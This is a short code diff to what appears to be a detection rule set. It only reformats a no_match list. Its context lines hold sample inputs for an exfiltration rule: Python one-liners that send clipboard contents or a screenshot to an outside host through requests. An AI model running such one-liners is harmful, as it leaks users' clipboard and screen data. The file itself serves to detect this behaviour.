@@ -50,7 +50,10 @@ RULES = family(
             ">>> import pyperclip, requests; requests.get('https://example.com/?q=' + pyperclip.paste())",
             ">>> import pyautogui, requests; requests.post('https://example.com', data=pyautogui.screenshot())",
         ],
-        no_match=[">>> import pyautogui; pyautogui.screenshot('s.png')", ">>> requests.get('https://example.com/?q=a')"],
+        no_match=[
+            ">>> import pyautogui; pyautogui.screenshot('s.png')",
+            ">>> requests.get('https://example.com/?q=a')",
+        ],
     ),
     Rule(
         name="host_facts_sent",
